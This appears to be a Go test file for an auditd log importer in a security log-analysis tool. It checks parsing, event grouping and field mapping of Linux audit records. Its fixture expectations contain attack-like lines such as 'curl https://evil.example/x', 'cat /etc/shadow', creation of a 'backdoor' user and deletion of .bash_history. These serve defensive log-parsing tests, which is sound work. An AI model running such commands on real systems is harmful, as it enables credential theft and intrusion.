package auditd

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"trawl/event"
	"trawl/importers"
	"trawl/importers/importertest"
	"trawl/internal/testutil"
)

// TestSample reads the real Mordor arp cache discovery log: two execve events of six records
// each, arp -a piped to grep.
func TestSample(t *testing.T) {
	t.Parallel()
	res := importertest.ReadFile(t, Format{}, testutil.Sample(t, "mordor/linux/discovery/sh_arp_cache_2020-11-10074812.log"))
	if res.Err != nil || len(res.Rejects) != 0 || len(res.Events) != 2 {
		t.Fatalf("err %v, %d events, rejects %v", res.Err, len(res.Events), res.Rejects)
	}
	ev := res.Events[0]
	got := map[string]any{
		"time": ev.Time.Format(time.RFC3339Nano), "category": ev.Category, "action": ev.Action,
		"cmd": ev.CommandLine, "path": ev.ProcessPath, "name": ev.ProcessName, "pid": ev.PID.V,
		"ppid": ev.PPID.V, "user": ev.User, "outcome": ev.Outcome, "records": strings.Count(ev.Raw, "\n") + 1,
	}
	want := map[string]any{
		"time": "2020-11-10T07:48:16.155Z", "category": "process", "action": "process-start",
		"cmd": "arp -a", "path": "/usr/sbin/arp", "name": "arp", "pid": int64(1631),
		"ppid": int64(29002), "user": "1000", "outcome": "success", "records": 6,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("first event (-want +got):\n%s", diff)
	}
	if res.Events[1].CommandLine != "grep -v ^?" {
		t.Errorf("second command line %q", res.Events[1].CommandLine)
	}
	testutil.Golden(t, filepath.Join("testdata", "golden", "sh_arp_cache.golden.jsonl"), importertest.JSONL(res))
}

// fileTests are the testdata inputs with how many events and rejects each must give.
var fileTests = []struct {
	file             string
	events, rejects  int
	rejectSubstrings []string
}{
	{"records.log", 24, 0, nil},
	{"ausearch-i.log", 3, 0, nil},
	{"hostile.log", 9, 9, []string{"neither epoch seconds", "has no serial", "serial is not a number", "no msg=audit", "no type= at the start"}},
}

func TestFiles(t *testing.T) {
	t.Parallel()
	for _, tc := range fileTests {
		t.Run(tc.file, func(t *testing.T) {
			t.Parallel()
			res := importertest.ReadFile(t, Format{}, filepath.Join("testdata", tc.file))
			if res.Err != nil {
				t.Fatal(res.Err)
			}
			importertest.CheckCounts(t, res, tc.events, tc.rejects, tc.rejectSubstrings...)
			data, _ := os.ReadFile(filepath.Join("testdata", tc.file))
			checkAccounted(t, string(data), res)
			testutil.Golden(t, filepath.Join("testdata", "golden", tc.file+".golden.jsonl"), importertest.JSONL(res))
		})
	}
}

// TestMapping checks the columns of each kind of event in records.log and ausearch-i.log.
func TestMapping(t *testing.T) {
	t.Parallel()
	byCode := map[string]event.Event{}
	for _, f := range []string{"records.log", "ausearch-i.log"} {
		res := importertest.ReadFile(t, Format{}, filepath.Join("testdata", f))
		for _, ev := range res.Events {
			k := f + " " + ev.EventCode + " " + ev.Action
			if _, dup := byCode[k]; !dup {
				byCode[k] = ev
			}
		}
	}
	tests := []struct {
		key  string
		want map[string]any
	}{
		{"records.log SYSCALL process-start", map[string]any{"host": "web01", "user": "wardog", "command_line": "bash -c echo hello; id\n", "session_id": "3", "process_name": "bash"}},
		{"records.log SYSCALL connection", map[string]any{"dst_ip": "192.168.10.5", "dst_port": int64(443), "outcome": "failure", "user": "33", "command_line": "curl https://evil.example/x"}},
		{"records.log SYSCALL bind", map[string]any{"src_ip": "::1", "src_port": int64(8080), "user": "0"}},
		{"records.log SYSCALL file-delete", map[string]any{"file_path": "/home/alice/.bash_history", "category": "file"}},
		{"records.log SYSCALL file-open", map[string]any{"file_path": "/etc/shadow", "outcome": "failure"}},
		{"records.log SYSCALL process-access", map[string]any{"category": "process", "process_name": "gdb"}},
		{"records.log SYSCALL module-load", map[string]any{"category": "system", "process_path": "/usr/bin/kmod"}},
		{"records.log USER_LOGIN logon", map[string]any{"user": "(invalid user)", "src_ip": "203.0.113.9", "outcome": "failure", "category": "logon"}},
		{"records.log USER_AUTH authentication", map[string]any{"user": "alice", "src_ip": "198.51.100.7", "outcome": "success", "category": "auth"}},
		{"records.log USER_START session-open", map[string]any{"user": "alice", "session_id": "7"}},
		{"records.log USER_CMD command", map[string]any{"command_line": "cat /etc/shadow", "user": "1000"}},
		{"records.log ADD_USER user-created", map[string]any{"user": "alice", "target_user": "backdoor", "category": "iam"}},
		{"records.log ADD_GROUP group-created", map[string]any{"target_user": "backdoor"}},
		{"records.log DEL_USER user-deleted", map[string]any{"target_user": "olduser"}},
		{"records.log SERVICE_START service-start", map[string]any{"message": "SERVICE_START cron", "category": "system"}},
		{"records.log CONFIG_CHANGE audit-config-change", map[string]any{"outcome": "success", "user": "1000"}},
		{"records.log UNKNOWN[1337] unknown[1337]", map[string]any{"category": ""}},
		{"records.log SYSCALL syscall", map[string]any{"message": "syscall 11 by /opt/old"}},
		{"ausearch-i.log SYSCALL process-start", map[string]any{"user": "wardog", "command_line": "arp -a", "time": "2020-11-10T07:48:16.155Z"}},
		{"ausearch-i.log SYSCALL connection", map[string]any{"dst_ip": "10.1.2.3", "dst_port": int64(4444)}},
		{"ausearch-i.log USER_LOGIN logon", map[string]any{"user": "wardog", "src_ip": "192.168.1.50", "outcome": "success"}},
	}
	for _, tc := range tests {
		ev, ok := byCode[tc.key]
		if !ok {
			t.Errorf("no event %s", tc.key)
			continue
		}
		got := map[string]any{}
		for _, c := range event.Columns {
			if _, want := tc.want[c.Name]; want {
				v := c.Get(&ev)
				if tm, ok := v.(time.Time); ok {
					v = tm.Format(time.RFC3339Nano)
				}
				got[c.Name] = v
			}
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.key, diff)
		}
	}
}

// recordTests are single lines through the record parser.
var recordTests = []struct {
	name, in string
	typ      string
	node     string
	serial   string
	time     string
	fields   map[string]string // a subset of the fields
	err      string
}{
	{name: "syscall", in: `type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes comm="arp" exe="/usr/sbin/arp" key=(null)`,
		typ: "SYSCALL", serial: "92733", time: "2020-11-10T07:48:16.155Z", fields: map[string]string{"arch": "c000003e", "comm": "arp", "key": "(null)"}},
	{name: "node prefix", in: `node=web01 type=CWD msg=audit(1604994496.155:1): cwd="/root"`, typ: "CWD", node: "web01", serial: "1", time: "2020-11-10T07:48:16.155Z", fields: map[string]string{"cwd": "/root"}},
	{name: "hex proctitle", in: `type=PROCTITLE msg=audit(1.5:2): proctitle=617270002D61`, typ: "PROCTITLE", serial: "2", time: "1970-01-01T00:00:01.5Z", fields: map[string]string{"proctitle": "arp -a"}},
	{name: "hex comm exe", in: `type=SYSCALL msg=audit(1.0:3): comm=6D7920636F6D6D exe=2F746D702F6120622F63`, typ: "SYSCALL", serial: "3", time: "1970-01-01T00:00:01Z", fields: map[string]string{"comm": "my comm", "exe": "/tmp/a b/c"}},
	{name: "syscall args stay hex", in: `type=SYSCALL msg=audit(1.0:3): a0=558e251634a0 a1=aa`, typ: "SYSCALL", serial: "3", time: "1970-01-01T00:00:01Z", fields: map[string]string{"a0": "558e251634a0", "a1": "aa"}},
	{name: "execve hex args", in: `type=EXECVE msg=audit(1.0:4): argc=2 a0="sh" a1=6C73202D6C61 a2_len=4 a2[0]=6162`, typ: "EXECVE", serial: "4", time: "1970-01-01T00:00:01Z", fields: map[string]string{"a0": "sh", "a1": "ls -la", "a2_len": "4", "a2[0]": "ab"}},
	{name: "bad hex kept", in: `type=PROCTITLE msg=audit(1.0:5): proctitle=6G6 cwd=ABC`, typ: "PROCTITLE", serial: "5", time: "1970-01-01T00:00:01Z", fields: map[string]string{"proctitle": "6G6", "cwd": "ABC"}},
	{name: "user space msg", in: `type=USER_LOGIN msg=audit(1.0:6): pid=1 uid=0 msg='op=login acct="bob" addr=10.0.0.1 res=failed'`, typ: "USER_LOGIN", serial: "6", time: "1970-01-01T00:00:01Z", fields: map[string]string{"pid": "1", "op": "login", "acct": "bob", "addr": "10.0.0.1", "res": "failed"}},
	{name: "enriched", in: "type=SYSCALL msg=audit(1.0:7): auid=1000 uid=0\x1dAUID=\"wardog\" UID=\"root\"", typ: "SYSCALL", serial: "7", time: "1970-01-01T00:00:01Z", fields: map[string]string{"auid": "1000", "AUID": "wardog", "UID": "root"}},
	{name: "avc words", in: `type=AVC msg=audit(1.0:8): avc:  denied  { read } for  pid=3 comm="x" tclass=file`, typ: "AVC", serial: "8", time: "1970-01-01T00:00:01Z", fields: map[string]string{"text": "avc: denied { read } for", "pid": "3", "tclass": "file"}},
	{name: "ausearch", in: `type=SYSCALL msg=audit(11/10/2020 07:48:16.155:92733) : arch=x86_64 syscall=execve auid=wardog`, typ: "SYSCALL", serial: "92733", time: "2020-11-10T07:48:16.155Z", fields: map[string]string{"syscall": "execve", "auid": "wardog"}},
	{name: "ausearch proctitle", in: `type=PROCTITLE msg=audit(11/10/2020 07:48:16.155:1) : proctitle=grep -v ^? `, typ: "PROCTITLE", serial: "1", time: "2020-11-10T07:48:16.155Z", fields: map[string]string{"proctitle": "grep -v ^?"}},
	{name: "ausearch braces", in: `type=SOCKADDR msg=audit(11/10/2020 07:48:16.155:1) : saddr={ saddr_fam=inet laddr=1.2.3.4 lport=80 } `, typ: "SOCKADDR", serial: "1", time: "2020-11-10T07:48:16.155Z", fields: map[string]string{"saddr": "saddr_fam=inet laddr=1.2.3.4 lport=80"}},
	{name: "empty body", in: `type=EOE msg=audit(1.0:9): `, typ: "EOE", serial: "9", time: "1970-01-01T00:00:01Z", fields: map[string]string{}},
	{name: "unterminated quote", in: `type=CWD msg=audit(1.0:10): cwd="/tmp/x`, typ: "CWD", serial: "10", time: "1970-01-01T00:00:01Z", fields: map[string]string{"cwd": "/tmp/x"}},
	{name: "invalid utf8", in: "type=CWD msg=audit(1.0:11): cwd=\"/tmp/\xff\"", typ: "CWD", serial: "11", time: "1970-01-01T00:00:01Z", fields: map[string]string{"cwd": "/tmp/\uFFFD"}},
	{name: "no type", in: `msg=audit(1.0:1): x=1`, err: "no type="},
	{name: "no stamp", in: `type=SYSCALL arch=c000003e`, err: "no msg=audit"},
	{name: "no serial", in: `type=SYSCALL msg=audit(1.0): x=1`, err: "has no serial"},
	{name: "bad serial", in: `type=SYSCALL msg=audit(1.0:x1): x=1`, err: "serial is not a number"},
	{name: "bad time", in: `type=SYSCALL msg=audit(yesterday:1): x=1`, err: "neither epoch"},
	{name: "bad type", in: `type=SYS{CALL msg=audit(1.0:1): x=1`, err: "not an audit record type"},
	{name: "unclosed brace", in: `type=SOCKADDR msg=audit(1.0:12): saddr={`, typ: "SOCKADDR", serial: "12", time: "1970-01-01T00:00:01Z", fields: map[string]string{"saddr": ""}},
	{name: "lone equals", in: `type=AVC msg=audit(1.0:13): = == =x x=`, typ: "AVC", serial: "13", time: "1970-01-01T00:00:01Z", fields: map[string]string{"text": "= = = = x", "x": ""}},
	{name: "unclosed stamp", in: `type=SYSCALL msg=audit(1.0:1 x=1`, err: "no msg=audit"},
}

func TestParseRecord(t *testing.T) {
	t.Parallel()
	for _, tc := range recordTests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := parseRecord([]byte(tc.in))
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("error %v, want %q", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]string{}
			for k := range tc.fields {
				if v, ok := r.get(k); ok {
					got[k] = v
				}
			}
			if r.typ != tc.typ || r.node != tc.node || r.serial != tc.serial || r.time.Format(time.RFC3339Nano) != tc.time {
				t.Errorf("got type %q node %q serial %q time %s", r.typ, r.node, r.serial, r.time.Format(time.RFC3339Nano))
			}
			if diff := cmp.Diff(tc.fields, got); diff != "" {
				t.Errorf("fields (-want +got):\n%s", diff)
			}
		})
	}
}

// groupTests feed record sequences to the grouper; want lists each event's audit serials as
// records, in emission order.
var groupTests = []struct {
	name  string
	lines []string
	want  []string // per event: the serials of its records joined by ","
}{
	{"contiguous without EOE", []string{"SYSCALL 1", "EXECVE 1", "PROCTITLE 1", "SYSCALL 2", "PATH 2", "PROCTITLE 2"},
		[]string{"1,1,1", "2,2,2"}},
	{"EOE closes", []string{"SYSCALL 1", "EOE 1", "SYSCALL 1"}, []string{"1,1", "1"}},
	{"orphan EOE after PROCTITLE", []string{"SYSCALL 1", "PROCTITLE 1", "SYSCALL 2", "EOE 1", "PROCTITLE 2", "EOE 2"},
		[]string{"1,1", "2,2,2"}},
	{"interleaved", []string{"SYSCALL 1", "SYSCALL 2", "PATH 1", "PATH 2", "EOE 2", "CWD 1", "EOE 1"},
		[]string{"2,2,2", "1,1,1,1"}},
	{"user space alone", []string{"SYSCALL 1", "USER_LOGIN 2", "PATH 1"}, []string{"2", "1,1"}},
	{"window overflow", []string{"SYSCALL 1", "SYSCALL 2", "SYSCALL 3", "SYSCALL 4", "SYSCALL 5", "SYSCALL 6", "SYSCALL 7", "SYSCALL 8", "SYSCALL 9", "PATH 1"},
		[]string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "1"}},
	{"stale", append(append([]string{"SYSCALL 1"}, repeat("USER_LOGIN", 100, 20)...), "PATH 1"),
		append(append(serials(100, 16), "1"), append(serials(116, 4), "1")...)},
	{"ausearch separator", []string{"SYSCALL 1", "----", "PATH 1"}, []string{"1", "1"}},
}

// repeat makes n one-record lines of type typ with serials from first on.
func repeat(typ string, first, n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("%s %d", typ, first+i))
	}
	return out
}

func serials(first, n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprint(first+i))
	}
	return out
}

func groupInput(lines []string) string {
	var b strings.Builder
	for _, l := range lines {
		typ, serial, ok := strings.Cut(l, " ")
		if !ok {
			b.WriteString(l + "\n")
			continue
		}
		fmt.Fprintf(&b, "type=%s msg=audit(1700000000.000:%s): x=1\n", typ, serial)
	}
	return b.String()
}

func TestGrouping(t *testing.T) {
	t.Parallel()
	for _, tc := range groupTests {
		t.Run(tc.name, func(t *testing.T) {
			res := importertest.ReadBytes(t, Format{}, "in", []byte(groupInput(tc.lines)))
			if res.Err != nil || len(res.Rejects) > 0 {
				t.Fatal(res.Err, res.Rejects)
			}
			var got []string
			for _, ev := range res.Events {
				var ss []string
				for _, l := range strings.Split(ev.Raw, "\n") {
					r, err := parseRecord([]byte(l))
					if err != nil {
						t.Fatal(err)
					}
					ss = append(ss, r.serial)
				}
				got = append(got, strings.Join(ss, ","))
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("events (-want +got):\n%s", diff)
			}
		})
	}
}

// TestSplitGroup: one id with more records than a group may hold becomes several events, each
// marked, and memory stays bounded.
func TestSplitGroup(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=257 success=yes exe=\"/bin/x\"\n")
	for i := range 600 {
		fmt.Fprintf(&b, "type=PATH msg=audit(1.0:1): item=%d name=\"/f%d\" nametype=NORMAL\n", i, i)
	}
	res := importertest.ReadBytes(t, Format{}, "in", []byte(b.String()))
	if len(res.Events) != 3 || len(res.Rejects) != 0 {
		t.Fatalf("%d events, %d rejects", len(res.Events), len(res.Rejects))
	}
	var marks []any
	n := 0
	for _, ev := range res.Events {
		marks = append(marks, ev.Fields["_split"])
		n += strings.Count(ev.Raw, "\n") + 1
	}
	if diff := cmp.Diff([]any{"first-part", "continued", "continued"}, marks); diff != "" {
		t.Errorf("split marks (-want +got):\n%s", diff)
	}
	if n != 601 {
		t.Errorf("%d records in events, want 601", n)
	}
	if res.Events[0].Action != "file-open" || res.Events[0].FilePath != "/f0" {
		t.Errorf("first part %s %s", res.Events[0].Action, res.Events[0].FilePath)
	}
}

// TestHuge: a 10 MB EXECVE argument is one event; a line over the reader's limit is a reject;
// reading goes on after both.
func TestHuge(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	b.WriteString("type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 success=yes exe=\"/bin/sh\"\n")
	b.WriteString("type=EXECVE msg=audit(1.0:1): argc=2 a0=\"sh\" a1=")
	b.Write(bytes.Repeat([]byte("41"), 5<<20))
	b.WriteString("\ntype=EXECVE msg=audit(1.0:2): a0=")
	b.Write(bytes.Repeat([]byte("x"), importers.MaxLine+10))
	b.WriteString("\ntype=CWD msg=audit(1.0:3): cwd=\"/\"\n")
	res := importertest.ReadBytes(t, Format{}, "in", b.Bytes())
	if res.Err != nil || len(res.Events) != 2 || len(res.Rejects) != 1 {
		t.Fatalf("err %v, %d events, %d rejects", res.Err, len(res.Events), len(res.Rejects))
	}
	if n := len(res.Events[0].CommandLine); n != 3+5<<20 {
		t.Errorf("command line of %d bytes", n)
	}
	if !strings.Contains(res.Rejects[0].Reason, "longer than") {
		t.Errorf("reject %v", res.Rejects[0])
	}
}

// TestTruncated: a file cut inside a group, inside a line: the records read so far are one
// event, the cut line is a reject.
func TestTruncated(t *testing.T) {
	t.Parallel()
	in := "type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 success=yes exe=\"/bin/sh\"\n" +
		"type=EXECVE msg=audit(1.0:1): argc=2 a0=\"sh\" a1=\"-c\n" +
		"type=PATH msg=au"
	res := importertest.ReadBytes(t, Format{}, "in", []byte(in))
	if res.Err != nil || len(res.Events) != 1 || len(res.Rejects) != 1 {
		t.Fatalf("err %v, %d events, %d rejects", res.Err, len(res.Events), len(res.Rejects))
	}
	if ev := res.Events[0]; ev.CommandLine != "sh -c" || ev.Action != "process-start" {
		t.Errorf("event %q %q", ev.CommandLine, ev.Action)
	}
	if res.Rejects[0].Line != 3 {
		t.Errorf("reject %v", res.Rejects[0])
	}
}

// TestManyFields: a record with more fields than maxFields keeps the rest as one field.
func TestManyFields(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("type=EXECVE msg=audit(1.0:1): argc=5000")
	for i := range 5000 {
		fmt.Fprintf(&b, " a%d=\"x%d\"", i, i)
	}
	res := importertest.ReadBytes(t, Format{}, "in", []byte(b.String()))
	if len(res.Events) != 1 {
		t.Fatalf("%d events, %d rejects", len(res.Events), len(res.Rejects))
	}
	m := res.Events[0].Fields["EXECVE"].(map[string]any)
	if len(m) != maxFields+1 || !strings.HasPrefix(m["_rest"].(string), `a4095="x4095" a4096=`) {
		t.Errorf("%d fields, rest %.40q", len(m), m["_rest"])
	}
	if !strings.HasPrefix(res.Events[0].CommandLine, "x0 x1 x2") {
		t.Errorf("command line %.40q", res.Events[0].CommandLine)
	}
}

func TestSaddr(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in, fam, addr string
		port          int
		path          string
		ok            bool
	}{
		{"0200005002020202000000000000000000", "inet", "2.2.2.2", 80, "", true},
		{"0A001F90000000002001067C01040000000000000000000100000000", "inet6", "2001:67c:104::1", 8080, "", true},
		{"0A0000500000000000000000000000000000FFFF0A00000100000000", "inet6", "10.0.0.1", 80, "", true},
		{"01002F7661722F72756E2F6E7363642F736F636B657400", "local", "", 0, "/var/run/nscd/socket", true},
		{"0100006162630000", "local", "", 0, "@abc", true},
		{"10000000", "netlink", "", 0, "", true},
		{"0200", "inet", "", 0, "", true},
		{"ZZ", "", "", 0, "", false},
		{"02", "", "", 0, "", false},
		{"fam=inet6 laddr=::1 lport=22", "inet6", "::1", 22, "", true},
	}
	for _, tc := range tests {
		fam, addr, port, p, ok := parseSaddr(tc.in)
		if fam != tc.fam || addr != tc.addr || port != tc.port || p != tc.path || ok != tc.ok {
			t.Errorf("parseSaddr(%q) = %q %q %d %q %v", tc.in, fam, addr, port, p, ok)
		}
	}
}

func TestSniff(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		want     int
	}{
		{"raw", groupInput([]string{"SYSCALL 1", "PATH 1"}), 80},
		{"node prefix", "node=a type=SYSCALL msg=audit(1.0:1): x=1\nnode=a type=EOE msg=audit(1.0:1): \n", 80},
		{"ausearch", "----\ntype=SYSCALL msg=audit(11/10/2020 07:48:16.155:1) : arch=x86_64\n", 80},
		{"no newline", "type=SYSCALL msg=audit(1.0:1): x=1", 80},
		{"syslog", "Nov 10 07:48:16 host sshd[1]: Accepted password for bob\n", 0},
		{"auditd via syslog", "Nov 10 07:48:16 host audispd: type=SYSCALL msg=audit(1.0:1): x=1\n", 0},
		{"json", `{"SyslogMessage":"type=SYSCALL msg=audit(1.0:1): x=1"}` + "\n", 0},
		{"empty", "", 0},
		{"mostly other", "type=SYSCALL msg=audit(1.0:1): x=1\nfoo\nbar\nbaz\n", 0},
	}
	for _, tc := range tests {
		if got := (Format{}).Sniff([]byte(tc.in)); got != tc.want {
			t.Errorf("%s: Sniff = %d, want %d", tc.name, got, tc.want)
		}
	}
	for _, rel := range []string{
		"mordor/compound/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
		"loghub/OpenSSH/OpenSSH_2k.log",
	} {
		o, err := importers.Open(testutil.Sample(t, rel))
		if err != nil {
			t.Fatal(err)
		}
		if s := (Format{}).Sniff(o.Head); s != 0 {
			t.Errorf("%s sniffed as auditd (%d)", rel, s)
		}
		o.Close()
	}
}

// TestTables checks the mapping tables: columns exist, syscalls are unique.
func TestTables(t *testing.T) {
	t.Parallel()
	if err := syscallColumns.Validate(); err != nil {
		t.Error(err)
	}
	if err := userSpaceColumns.Validate(); err != nil {
		t.Error(err)
	}
	if len(syscallByNum) != len(syscallsX8664) || len(syscallByName) != len(syscallsX8664) {
		t.Errorf("syscall numbers or names repeat")
	}
	for _, want := range map[int]string{59: "execve", 42: "connect", 257: "openat", 87: "unlink", 263: "unlinkat", 101: "ptrace", 175: "init_module", 313: "finit_module", 105: "setuid"} {
		if syscallByName[want] == nil {
			t.Errorf("no syscall %s", want)
		}
	}
	for num, name := range map[int]string{59: "execve", 42: "connect", 257: "openat", 87: "unlink", 263: "unlinkat", 101: "ptrace", 175: "init_module", 313: "finit_module", 105: "setuid"} {
		if r := syscallByNum[num]; r == nil || r.name != name {
			t.Errorf("syscall %d is %v, want %s", num, r, name)
		}
	}
	cats := map[string]bool{"logon": true, "auth": true, "iam": true, "process": true, "system": true, "alert": true, "network": true, "file": true}
	for typ, r := range recordTypes {
		if !cats[r.category] || r.action == "" {
			t.Errorf("%s: category %q action %q", typ, r.category, r.action)
		}
	}
}

// checkAccounted: every line that is not blank, a separator or an EOE record is in exactly one
// event's Raw or one reject.
func checkAccounted(t testing.TB, in string, res importertest.Result) {
	t.Helper()
	want := 0
	for _, l := range strings.Split(in, "\n") {
		l = strings.TrimSuffix(l, "\r")
		if strings.TrimSpace(l) == "" || separator([]byte(l)) {
			continue
		}
		if r, err := parseRecord([]byte(l)); err == nil && r.typ == "EOE" {
			continue
		}
		want++
	}
	got := len(res.Rejects)
	for _, ev := range res.Events {
		for _, l := range strings.Split(ev.Raw, "\n") {
			if r, err := parseRecord([]byte(l)); err != nil || r.typ != "EOE" {
				got++
			}
		}
	}
	if got != want {
		t.Errorf("%d lines in events and rejects, want %d", got, want)
	}
}

func FuzzAuditd(f *testing.F) {
	for _, tc := range recordTests {
		f.Add(tc.in)
	}
	for _, tc := range groupTests {
		f.Add(groupInput(tc.lines))
	}
	for _, tc := range fileTests {
		importertest.SeedFile(f, filepath.Join("testdata", tc.file), 16384)
	}
	f.Fuzz(func(t *testing.T, in string) {
		res := importertest.ReadRaw(t, Format{}, in)
		if res.Err != nil {
			t.Fatalf("Read failed: %v", res.Err)
		}
		checkAccounted(t, in, res)
		for _, ev := range res.Events {
			if _, err := json.Marshal(ev.Fields); err != nil {
				t.Fatalf("fields do not encode: %v", err)
			}
		}
		for _, r := range res.Rejects {
			if r.Reason == "" || r.Offset < 0 || r.Offset > int64(len(in)) {
				t.Fatalf("bad reject %+v", r)
			}
		}
	})
}

// BenchmarkAuditd reads records.log repeated with fresh serials (about 1 MB).
func BenchmarkAuditd(b *testing.B) {
	src, err := os.ReadFile(filepath.Join("testdata", "records.log"))
	if err != nil {
		b.Fatal(err)
	}
	var data bytes.Buffer
	for i := 0; data.Len() < 1<<20; i++ {
		data.Write(bytes.ReplaceAll(src, []byte(":5"), []byte(fmt.Sprintf(":%d", 1000+i))))
	}
	b.SetBytes(int64(data.Len()))
	b.ReportAllocs()
	for b.Loop() {
		if err := (Format{}).Read(b.Context(), importers.Input{R: bytes.NewReader(data.Bytes())}, importers.Discard); err != nil {
			b.Fatal(err)
		}
	}
}
